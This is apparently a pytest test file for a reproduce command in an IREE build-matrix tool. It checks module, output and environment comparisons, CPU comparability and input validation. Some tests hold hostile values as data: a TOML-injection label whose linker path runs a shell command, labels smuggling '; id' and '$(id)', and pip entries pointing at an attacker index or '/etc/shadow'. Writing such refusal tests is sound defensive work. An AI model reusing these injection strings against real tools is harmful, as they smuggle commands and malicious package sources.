"""`iree-matrix reproduce`'s pure parts: which records it takes, the matrix it plans them from, and
its verdicts (records made by hand; the real re-creation is tests/integration/test_reproduce.py)."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from iree_matrix import stages
from iree_matrix.core.errors import UserError
from iree_matrix.core.model.results import Record, Status
from iree_matrix.core.system import bubblewrap
from iree_matrix.matrix import spec_file
from iree_matrix.tasks import reproduce

EXP = "py3.11-torch2.13.0-turbine3.9.0"
CELL = f"tiny_cnn/{EXP}/iree3.9.0/x86_64/default"
CPU = "x86_64|AMD EPYC|avx,avx2"
LABELS = {
    "model": "tiny_cnn", "source_model": "tiny_cnn", "function": "main", "python": "3.11", "torch": "2.13.0",
    "turbine": "3.9.0", "exporter": EXP, "compiler": "3.9.0", "arch": "x86_64", "profile": "default",
}  # fmt: skip
ENV = {
    "backend": "venv",
    "lock_digest": "1" * 64,
    "packages": {"iree-base-runtime": "3.9.0", "numpy": "2.4.6"},
}


def _compile(module: str = "a" * 64, parts=None, cpu: str = CPU, **labels) -> Record:
    metrics = {
        "module_sha256": module,
        "module_parts_sha256": parts or {"module.fb": "b" * 64, "main_embedded_elf_x86_64.so": "c" * 64},
        "host_cpu": cpu,
    }
    env = {
        "backend": "venv",
        "lock_digest": "2" * 64,
        "packages": {"iree-base-compiler": "3.9.0", "numpy": "2.4.6"},
    }
    return Record(f"compile:{CELL}", "compile", CELL, "k", Status.OK, {**LABELS, **labels}, metrics, env=env)


def _run(module: str = "a" * 64, outputs: str = "d" * 64, matches: bool = True, env=ENV, **labels) -> Record:
    metrics = {"module_sha256": module, "outputs_sha256": outputs, "matches": matches, "max_abs_err": 1e-6}
    status = Status.OK if matches else Status.MISMATCH
    labels = {**LABELS, "runtime": "3.9.0", **labels}
    cell = CELL + ("" if labels["runtime"] == "3.9.0" else f"/rt{labels['runtime']}")
    cell += f"/{labels['device']}" if labels.get("device") else ""
    return Record(f"run:{cell}", "run", cell, "k", status, labels, metrics, env=env)


def _made(*records: Record) -> reproduce.Made:
    return reproduce.Made({r.job: r for r in records}, Path("/log"), 0)


def _published() -> dict:
    return {r.job: r for r in (_compile(), _run())}


def test_the_same_bytes_are_the_same_cell():
    verdict = reproduce.compare(_run(), _published(), _made(_compile(), _run()), here_cpu=CPU)
    assert not verdict.different and verdict.module_same and verdict.outputs_same
    assert "module  same sha256 aaaaaaaaaaaa" in verdict.text() and "env     same pins" in verdict.text()


def test_another_module_names_the_part_it_differs_in():
    parts = {"module.fb": "b" * 64, "main_embedded_elf_x86_64.so": "e" * 64}
    made = _made(_compile("f" * 64, parts), _run("f" * 64))
    verdict = reproduce.compare(_run(), _published(), made, here_cpu=CPU)
    assert verdict.different and verdict.module_same is False
    assert "first difference: executable main_embedded_elf_x86_64.so" in verdict.text()
    assert "outputs same sha256" in verdict.text()


def test_a_module_for_host_made_on_another_cpu_is_said_so_not_a_mismatch():
    made = _made(_compile("f" * 64), _run("f" * 64, outputs="9" * 64))
    verdict = reproduce.compare(_run(), _published(), made, here_cpu="x86_64|Intel Xeon|avx,avx2,avx512f")
    assert not verdict.different and verdict.module_same is None
    assert "not comparable: compiled for `host` on x86_64|AMD EPYC" in verdict.text()


def test_outputs_that_differ_in_bits_but_both_pass_are_within_tolerance_and_still_a_difference():
    verdict = reproduce.compare(_run(), _published(), _made(_compile(), _run(outputs="9" * 64)), here_cpu=CPU)
    assert verdict.different and verdict.outputs_same is False
    assert "both within torch's tolerance" in verdict.text()
    failing = _made(_compile(), _run(outputs="9" * 64, matches=False))
    text = reproduce.compare(_run(), _published(), failing, here_cpu=CPU).text()
    assert "status  mismatch, published ok" in text and "outputs DIFFERENT: sha256" in text


def test_another_lock_names_the_packages_that_moved():
    env = {**ENV, "lock_digest": "3" * 64, "packages": {"iree-base-runtime": "3.9.0", "numpy": "2.5.0"}}
    text = reproduce.compare(_run(), _published(), _made(_compile(), _run(env=env)), here_cpu=CPU).text()
    assert "env     other pins (numpy 2.4.6->2.5.0)" in text


def test_a_cell_that_was_not_made_is_a_difference():
    verdict = reproduce.compare(_run(), _published(), _made(), here_cpu=CPU)
    assert verdict.different and "not re-created" in verdict.text()


def test_first_differing_part_prefers_the_bytecode():
    old = {"module.fb": "1", "x_embedded_elf_x86_64.so": "2"}
    assert reproduce.first_differing_part(
        old, {**old, "module.fb": "3", "x_embedded_elf_x86_64.so": "4"}
    ) == ("the bytecode (module.fb)")
    assert reproduce.first_differing_part(old, old) == "the container only (every part is equal)"
    assert reproduce.first_differing_part(old, None).startswith("unknown")


def test_constraints_pin_what_every_environment_agrees_on():
    export = Record(f"export:tiny_cnn/{EXP}", "export", f"tiny_cnn/{EXP}", "k", Status.OK, LABELS,
                    env={"packages": {"torch": "2.13.0", "numpy": "2.3.0"}})  # fmt: skip
    latest = {**_published(), export.job: export}
    pins = reproduce.constraints(_run(), latest)
    assert (
        "torch==2.13.0" in pins and "iree-base-compiler==3.9.0" in pins and "iree-base-runtime==3.9.0" in pins
    )
    assert not any(p.startswith("numpy") for p in pins)  # 2.3.0 in the exporter, 2.4.6 elsewhere


@pytest.mark.parametrize(
    "record",
    [
        _compile(),
        _run(),
        _run(device="local-sync"),
        _run(runtime="3.10.0", device="local-sync"),
        dataclasses.replace(_compile(form="bytecode"), job=f"compile:{CELL}/mlirbc"),
    ],
)
def test_the_matrix_it_writes_plans_the_records_job(record: Record, tmp_path: Path):
    path = tmp_path / "m.toml"
    path.write_text(reproduce.matrix_text(record))
    jobs = {job.id for job in stages.plan(spec_file.load(path)).jobs}
    assert record.job in jobs, sorted(jobs)


def test_select_refuses_what_it_cannot_compare(tmp_path: Path):
    latest = _published()
    path = tmp_path / "results.jsonl"
    assert [r.job for r in reproduce.select(latest, ["run:*"], path)] == [f"run:{CELL}"]
    with pytest.raises(UserError, match="no compile or run job matches 'run:nothing'"):
        reproduce.select(latest, ["run:nothing"], path)
    old = dataclasses.replace(_run(), metrics={"matches": True})
    with pytest.raises(UserError, match="has no module sha256 to compare with"):
        reproduce.select({old.job: old}, ["run:*"], path)
    mine = _run(model="my_net", source_model="my_net")
    with pytest.raises(UserError, match="model 'my_net' is not built in"):
        reproduce.select({mine.job: mine}, ["run:*"], path)
    # A kernel cell was refused as "profile 'default+k:depthwise3x3' is the matrix's own" (tried on
    # results/kernels, 2026-11-28): its profile is `default`; what reproduce does not plan is the kernel.
    kernel = _compile(profile="default+k:depthwise3x3", kernel="depthwise3x3")
    said = "a cell with the kernel 'depthwise3x3': reproduce does not plan kernels; re-make it by hand"
    with pytest.raises(UserError, match=said):
        reproduce.select({kernel.job: kernel}, ["compile:*"], path)
    custom = _compile(profile="mine")
    with pytest.raises(UserError, match="profile 'mine' is the matrix's own"):
        reproduce.select({custom.job: custom}, ["compile:*"], path)


def test_summary_counts():
    same = reproduce.Verdict("run:a", (), False, True, True)
    other = reproduce.Verdict("compile:b", (), False, None, None)
    assert reproduce.summary([same, other]) == (
        "2 cell(s): 1/2 same module sha256, 1/1 runs same outputs sha256, 1 compiled for another host CPU; "
        "no difference"
    )


def test_two_cpus_of_one_model_name_are_not_comparable_and_llvms_name_does_not_matter():
    """A Zen 4 and a Zen 5 both read "AMD EPYC": the identity (family / model / flags) tells them
    apart, so a `host` module from one is "not comparable" on the other, never DIFFERENT; on one
    identity, whether LLVM's name was known yet does not matter."""
    zen5 = "x86_64|AuthenticAMD|26|2|0|bbbbbbbbbbbbbbbb|2 (znver5)"
    zen4 = "x86_64|AuthenticAMD|25|17|1|aaaaaaaaaaaaaaaa|2"
    made = _made(_compile("f" * 64, cpu=zen5), _run("f" * 64, outputs="9" * 64))
    published = {r.job: r for r in (_compile(cpu=zen5), _run())}
    verdict = reproduce.compare(_run(), published, made, here_cpu=zen4 + " (znver4)")
    assert verdict.module_same is None and not verdict.different
    assert "not comparable" in verdict.text() and "znver5" in verdict.text()
    same = reproduce.compare(_run(), published, made, here_cpu=zen5.split(" (")[0])
    assert same.different and "DIFFERENT" in same.text()


def test_a_module_for_a_named_cpu_is_comparable_on_any_machine():
    """Issue #41: a cell compiled for a named CPU (`avx2`: x86-64-v3) embeds no host's features, so
    on a machine of another identity its module must be the same bytes: a difference there is
    DIFFERENT, never "not comparable"; the same bytes are "same"."""
    zen5 = "x86_64|AuthenticAMD|26|2|0|bbbbbbbbbbbbbbbb|2 (znver5)"
    here = "x86_64|GenuineIntel|6|167|1|fc7df03f53a7dec4|2 (rocketlake)"
    named = ("iree-compile", "model.mlir", "--iree-llvmcpu-target-cpu=x86-64-v3", "-o", "module.vmfb")
    compiled = dataclasses.replace(_compile(cpu=zen5), command=named)
    published = {r.job: r for r in (compiled, _run())}
    other = reproduce.compare(_run(), published, _made(compiled, _run("f" * 64)), here_cpu=here)
    assert other.different and "DIFFERENT" in other.text() and "not comparable" not in other.text()
    same = reproduce.compare(_run(), published, _made(compiled, _run()), here_cpu=here)
    assert not same.different and same.module_same
    host = dataclasses.replace(compiled, command=tuple(a.replace("x86-64-v3", "host") for a in named))
    published = {r.job: r for r in (host, _run())}
    verdict = reproduce.compare(_run(), published, _made(host, _run("f" * 64)), here_cpu=here)
    assert verdict.module_same is None and "not comparable" in verdict.text()


def test_reproduce_states_its_cost_shows_progress_and_ctrl_c_prints_what_finished(
    tmp_path, monkeypatch, capsys
):
    """Issue #52: no ETA, and an interrupt printed nothing of the cells already reproduced."""
    from iree_matrix import cli
    from iree_matrix.core.model.results import ResultsLog

    compiled, ran = dataclasses.replace(_compile(), seconds=20.0), dataclasses.replace(_run(), seconds=2.0)
    other = dataclasses.replace(ran, job=ran.job + "/local-sync", cell=ran.cell + "/local-sync")
    log = ResultsLog(tmp_path / "results.jsonl")
    for r in (compiled, ran, other):
        log.append(r)
    made = iter([_made(compiled, ran)])

    def recreate(record, latest, cache, backend, threads=None):
        try:
            return next(made)
        except StopIteration:
            raise KeyboardInterrupt from None  # Ctrl-C while the second cell is made

    monkeypatch.setattr(reproduce, "_recreate", recreate)
    monkeypatch.setattr("iree_matrix.stages.compile.host_cpu", lambda: CPU)
    monkeypatch.setattr(bubblewrap, "problem", lambda: None)  # (the venv cells' sandbox: below)
    code = cli.main(["reproduce", "run:*", "--results-dir", str(tmp_path), "--cache", str(tmp_path / "c")])
    out, err = capsys.readouterr()  # what it does, its cost and progress on stderr; the verdicts on stdout
    assert code == 130
    said = err.splitlines()[1]
    assert (
        said.startswith("reproduce: 2 cell(s), each made again from nothing") and "cheaper: fewer JOB" in said
    )
    assert "[1/2 " in err and " ETA " in err and f"] {ran.job}" in err
    assert "warning: interrupted: 1 of 2 cells reproduced (above)" in err
    assert out.startswith(f"{ran.job}\n") and "1 cell(s): " in out and " ETA " not in out  # the finished one


def _export(mlir: str) -> Record:
    cell = CELL.split("/iree", 1)[0]  # model/exporter
    labels = {k: LABELS[k] for k in ("model", "python", "torch", "turbine", "exporter") if k in LABELS}
    return Record(f"export:{cell}", "export", cell, "k", Status.OK, labels, {"mlir_sha256": mlir}, env=ENV)


def test_the_mlir_is_compared_too_whatever_the_cpu() -> None:
    """Issue #51: the export's bytes no longer depend on the CPU or the thread count, so another
    MLIR is a difference even where the `host` module is not comparable."""
    published = {**_published(), _export("1" * 64).job: _export("1" * 64)}
    same = reproduce.compare(_run(), published, _made(_export("1" * 64), _compile(), _run()), here_cpu=CPU)
    assert "mlir    same sha256 111111111111" in same.text() and not same.different
    other = _made(_export("2" * 64), _compile("f" * 64), _run("f" * 64, outputs="9" * 64))
    verdict = reproduce.compare(_run(), published, other, here_cpu="x86_64|Intel Xeon|avx,avx2,avx512f")
    assert (
        verdict.different
        and "mlir    DIFFERENT sha256: 111111111111 published, 222222222222 here" in verdict.text()
    )


def test_threads_go_into_the_one_cell_matrix() -> None:
    assert "threads = 1\n" in reproduce.matrix_text(_run(), threads=1)
    assert "threads" not in reproduce.matrix_text(_run())


@pytest.mark.parametrize("threads", ["0", "-5", "two"])
def test_threads_below_one_are_refused_before_anything_is_planned(threads, tmp_path, capsys) -> None:
    """`--threads 0` hung and `--threads -5` planned every cell and called each "DIFFERENT"."""
    from iree_matrix import cli

    argv = ["reproduce", "run:*", "--threads", threads, "--results-dir", str(tmp_path)]
    assert cli.main(argv) == 2
    err = capsys.readouterr().err
    shown = threads if threads != "two" else repr(threads)
    assert err.startswith(f"iree-matrix: error: argument --threads: {shown}:")
    assert len(err.splitlines()) == 1 and not any(tmp_path.iterdir())


INJECTED = (
    '3.13.0"]\n[profile.default]\nflags=["--iree-llvmcpu-embedded-linker-path=sh -c \'touch PWNED\'"]\n#'
)


@pytest.mark.parametrize("compiler", [INJECTED, INJECTED.replace("\n", " "), '3.9.0"]'])
def test_a_label_that_would_close_the_toml_string_is_refused_in_one_line_and_nothing_runs(
    compiler: str, tmp_path: Path, monkeypatch, capsys
):
    """A record arrives from another party (merge, shards): a compiler label that closes the matrix
    file's string and adds a profile whose linker "path" is a shell command must never reach
    iree-compile. The log is refused before anything is planned, written or run."""
    import json

    from iree_matrix import cli

    good = _compile().to_json()
    bad = json.loads(good)
    bad["labels"]["compiler"] = compiler
    (tmp_path / "results.jsonl").write_text(good + "\n" + json.dumps(bad) + "\n")

    def never(*args, **kwargs):
        raise AssertionError("a cell was re-created from a refused record")

    monkeypatch.setattr(reproduce, "_recreate", never)
    monkeypatch.setattr(reproduce.subprocess, "run", never)
    cache = tmp_path / "cache"
    code = cli.main(["reproduce", "compile:*", "--results-dir", str(tmp_path), "--cache", str(cache)])
    out, err = capsys.readouterr()
    assert code == 2 and out == ""
    assert len(err.splitlines()) == 1, err
    assert err.startswith(f"iree-matrix: error: {tmp_path / 'results.jsonl'}:2: ") and "'compiler'" in err
    assert f"compile:{CELL}" in err and "nothing was run" in err
    assert "\x1b" not in err and not cache.exists() and not list(tmp_path.rglob("PWNED"))


def test_the_matrix_file_is_written_by_a_serializer_whatever_a_value_holds() -> None:
    """Even past the label checks, a value is a value: the TOML reads back as exactly the data."""
    from iree_matrix.core import toml_text
    from iree_matrix.matrix.spec_file import tomllib

    for text in (INJECTED, "a\\b", "\x00\x1b\x7f\u2028", "é😀", "'''", '"""'):
        document = {"compiler": [text], "benchmark": {"repetitions": 1, "flags": [text]}}
        written = toml_text.dumps(document)
        assert tomllib.loads(written) == document
        assert "profile" not in tomllib.loads(written) and written.isascii()


@pytest.mark.parametrize(
    ("labels", "said"),
    [
        ({"compiler": "latest"}, "label 'compiler' is 'latest', not a version"),
        ({"torch": "2.5.1 ; id"}, "label 'torch' is '2.5.1 ; id', with ' '"),
        ({"profile": "x" * 300}, "label 'profile' is 300 characters long (a name has at most 200)"),
        ({"arch": "x86_64$(id)"}, "label 'arch' is 'x86_64$(id)', with '$'"),
    ],
)
def test_labels_are_checked_before_they_are_used(labels, said, tmp_path: Path) -> None:
    """Releases parse as versions and names keep to the safe alphabet and length, on reading a log
    (any command) and again where reproduce writes them into a matrix file."""
    import json

    from iree_matrix.core.errors import UserError
    from iree_matrix.core.model.results import ResultsLog

    data = json.loads(_compile().to_json())
    data["labels"].update(labels)
    path = tmp_path / "results.jsonl"
    path.write_text(json.dumps(data) + "\n")
    if "compiler" in labels:  # a name, so readable: only reproduce, which needs a version, refuses it
        record = ResultsLog(path).checked()[0]
        with pytest.raises(UserError) as refused:
            reproduce.select({record.job: record}, ["compile:*"], path)
    else:
        with pytest.raises(UserError) as refused:
            ResultsLog(path).checked()
    assert said in str(refused.value) and str(path) in str(refused.value)
    assert "\n" not in str(refused.value)


def test_without_bubblewrap_reproduce_refuses_in_one_line_or_passes_unsandboxed_on(
    tmp_path, monkeypatch, capsys
):
    """Each cell is made again from its export (the model's code): on host venvs, as `matrix` does,
    only inside bubblewrap or with `--unsandboxed`, which each cell's own matrix is then given."""
    import subprocess

    from iree_matrix import cli
    from iree_matrix.core.model.results import ResultsLog

    log = ResultsLog(tmp_path / "results.jsonl")
    for r in (_compile(), _run()):
        log.append(r)
    monkeypatch.setattr(bubblewrap, "problem", lambda: "bubblewrap (bwrap) is not installed")
    monkeypatch.setenv(bubblewrap.UNSANDBOXED_ENV, "0")
    argv = ["reproduce", "run:*", "--results-dir", str(tmp_path), "--cache", str(tmp_path / "c")]
    assert cli.main(argv) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1 and "the export stage runs your model's code" in err
    assert "--unsandboxed" in err and not (tmp_path / "c").exists()  # refused before anything was made
    started: list[list[str]] = []

    def run(command, **kwargs):
        started.append(command)
        return subprocess.CompletedProcess(command, 0)

    monkeypatch.setattr(reproduce.subprocess, "run", run)
    monkeypatch.setattr("iree_matrix.stages.compile.host_cpu", lambda: CPU)
    cli.main([*argv, "--unsandboxed"])
    assert len(started) == 1 and started[0][3] == "matrix" and "--unsandboxed" in started[0]


@pytest.mark.parametrize(
    "packages, said",
    [
        ({"torch --extra-index-url http://evil.example/simple": "2.13.0"}, "no PEP 508 project name"),
        ({"torch": "2.13.0\n--index-url http://evil.example"}, "no PEP 440 version"),
        ({"torch": "latest"}, "no PEP 440 version"),
        ({"-r /etc/shadow": "1"}, "no PEP 508 project name"),
        ({"torch": 2}, "no PEP 440 version"),
    ],
)
def test_a_received_records_packages_reach_pip_only_as_names_and_versions(tmp_path, packages, said):
    """Issue 68 item 3: a record's env.packages name carrying `--extra-index-url …` went unchecked into
    the constraints reproduce hands pip (pip queried the drill's index, as root). Each name must be a
    PEP 508 project name and each version a PEP 440 one, checked when the cells are chosen."""
    hostile = _run(env={**ENV, "packages": {**ENV["packages"], **packages}})
    latest = {**_published(), hostile.job: hostile}
    with pytest.raises(UserError) as caught:
        reproduce.select(latest, [hostile.job], tmp_path / "results.jsonl")
    message = str(caught.value)
    assert said in message and "nothing is handed to pip" in message and "\n" not in message, message
    assert reproduce.package_problem("iree-base-compiler", "3.9.0rc20251118") is None
    assert reproduce.package_problem("torch", "2.13.0+cpu") is None
